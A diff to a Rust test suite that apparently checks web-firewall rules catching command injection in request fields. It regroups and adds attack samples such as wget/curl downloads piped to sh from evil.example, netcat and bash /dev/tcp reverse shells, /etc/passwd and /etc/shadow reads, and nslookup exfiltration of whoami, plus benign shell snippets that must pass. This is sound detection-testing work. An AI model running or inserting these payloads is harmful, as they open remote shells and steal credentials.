@@ -582,11 +582,9 @@ fn attacks() -> Vec<(i64, Req)> {
         arg("host", "8.8.8.8; wget http://evil.example/x.sh -O-|sh"),
         arg("host", "x| id"),
         arg("host", "x&&id"),
-        arg("host", "x;  pwd"),
         arg("host", "x && whoami"),
         arg("host", "$(id)"),
         arg("host", "`uname -a`"),
-        arg("host", "1.1.1.1; sleep 5"),
         arg("host", "x || ping -c 10 127.0.0.1"),
         arg("host", "x\nls -la"),
         arg("host", "{cat,/etc/passwd}"),
@@ -595,6 +593,21 @@ fn attacks() -> Vec<(i64, Req)> {
         arg("host", "a | nc -e /bin/sh 198.51.100.1 4444"),
         form(&[("host", "8.8.8.8%3B+wget+http://evil.example/x.sh")]),
         Req::get("/").header("Cookie", "name=x|curl http://evil.example/a"),
+    ]);
+    add(4230170, vec![
+        arg("host", "x;  pwd"),
+        arg("host", "1.1.1.1; sleep 5"),
+        arg("host", "x; whoami"),
+        arg("host", "x\nid"),
+        arg("host", "x; curl evil.example"),
+        arg("host", "8.8.8.8; nslookup 203.0.113.9"),
+        arg("host", "$(nslookup `whoami`.evil.example)"),
+        arg("q", "hello\n\n```\nbash -i >& /dev/tcp/198.51.100.1/4444 0>&1\n```\n"),
+        arg("q", "we saw `curl -s http://198.51.100.1/a | sh` here"),
+        arg("q", "see `cat /etc/shadow` there"),
+        arg("q", "x; mkfifo /tmp/f"),
+        arg("q", "{cat,/etc/passwd}"),
+        arg("q", "x || ping -c 10 127.0.0.1"),
     ]);
     add(4230110, vec![
         arg("x", "bash -i >& /dev/tcp/198.51.100.1/4444 0>&1"),
@@ -1940,7 +1953,9 @@ fn rules_follow_the_pack_conventions() {
                 let ok = cve.len() >= 13 && cve.starts_with("CVE-") && cve[4..8].chars().all(|c| c.is_ascii_digit()) && &cve[8..9] == "-" && cve[9..].chars().all(|c| c.is_ascii_digit());
                 assert!(ok, "{id}: malformed CVE tag {t}");
             } else {
-                assert!(t == "portcullis" || ATTACK_TAGS.contains(&t.as_str()), "{id}: unexpected tag {t}");
+                // portcullis/confirm-not-inert: 95-confirm.conf's inert-text
+                // confirmation governs the rule, as it does CRS's.
+                assert!(t == "portcullis" || t == "portcullis/confirm-not-inert" || ATTACK_TAGS.contains(&t.as_str()), "{id}: unexpected tag {t}");
             }
         }
         let t = r.values("t");
@@ -2293,6 +2308,9 @@ fn confirmations_pass_inert_values_and_keep_attacks() {
     let svg = format!("data:image/svg+xml;base64,{}", b64(b"<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"9\"><rect width=\"9\" fill=\"#71cfd4\"/></svg>", false));
     let benign: Vec<(&str, Req)> = vec![
         ("a search of words", q("union station select seats")),
+        ("inline code in a comment", arg("comment", "lol the bit about `rm -rf node_modules && npm install` being the universal fix is painfully true")),
+        ("a fenced shell loop in a question", json(r#"{"body":"Sorry if this is a duplicate. Code:\n\n```bash\nfor i in $(seq 1 5); do curl -s https://api.example.com/health; sleep 2; done\n```\n\nand it hangs forever."}"#)),
+        ("a fenced tar with a date in a question", arg("body", "I tried this:\n\n```bash\ntar -czf backup-$(date +%F).tar.gz ~/projects\n```\n\nbut the result has duplicates.")),
         ("a JavaScript template literal", arg("code", "const res = await fetch(`/api/v1/orders/${id}`, { method: 'DELETE' });")),
         ("a CI expression", arg("config", "steps:\n  - run: echo \"done in ${{ job.status }}\"")),
         ("a Log4j lookup named in a question", arg("body", "In log4j2.xml I set fileName=\"${sys:user.home}/logs/app.log\" and it creates a folder literally named ${sys:user.home}. Is user.home empty there?")),
@@ -2367,6 +2385,14 @@ fn confirmations_pass_inert_values_and_keep_attacks() {
         ("a tautology in a Markdown fence", form(&[("body", "This is what I tried:\n\n```\n' or '1'='1' --\n```\n\nAny idea?")])),
         ("a tautology in the prose before a fenced statement", form(&[("body", "x' or 1 --\n```sql\nSELECT 1\n```")])),
         ("a command in a fence with no prose", form(&[("body", "```\n;cat /etc/passwd\n```")])),
+        ("a reverse shell in a fence", form(&[("body", "Look:\n\n```\nbash -i >& /dev/tcp/203.0.113.9/443 0>&1\n```\n\nAny idea?")])),
+        ("a download run by a shell, in inline code", json(r#"{"text":"We saw `wget -qO- 198.51.100.23/k|sh` in the logs"}"#)),
+        ("a secret read in a fence", form(&[("body", "Try this:\n\n```\n127.0.0.1; cat /etc/passwd\n```")])),
+        ("a probe's answer sent by DNS, in prose", arg("message", "hello there; nslookup `whoami`.x.evil.example friend")),
+        ("a delay ending a fence", form(&[("body", "Try this:\n\n```\n; sleep 7 #\n```\n\nthanks")])),
+        ("a ping of the loopback address in a fence", form(&[("body", "Try this:\n\n```\n|| ping -c 10 127.0.0.1\n```\n\nthanks")])),
+        ("a command substitution alone", q("`uname -a`")),
+        ("a command after a double ampersand, in words", q("hello && id")),
         ("a script in a Markdown fence", form(&[("body", "Look:\n\n```\n<script>alert(document.cookie)</script>\n```")])),
         ("a tautology", q("1 or 1=1")),
         ("words-only order by", q("1 order by 10")),
@@ -2435,7 +2461,7 @@ fn a_field_declared_as_code_passes_code_and_nothing_else() {
     };
     let posts = [
         form(&[("title", "Why does my bash loop skip the last line?"), ("body", "ls -la ~/Downloads | sort -k5 -n | tail")]),
-        form(&[("title", "How do I do this?"), ("body", "Minimal example:\n\n```bash\nping -c 4 example.com && echo up || echo down\n```\n")]),
+        json(r#"{"title":"How do I do this?","body":"Minimal example:","code":"ping -c 4 example.com && echo up || echo down"}"#),
         json(r#"{"title":"Banner","body":"This works locally:","code":"<script>document.write('<b>Sale</b>')</script>"}"#),
     ];
     for post in &posts {
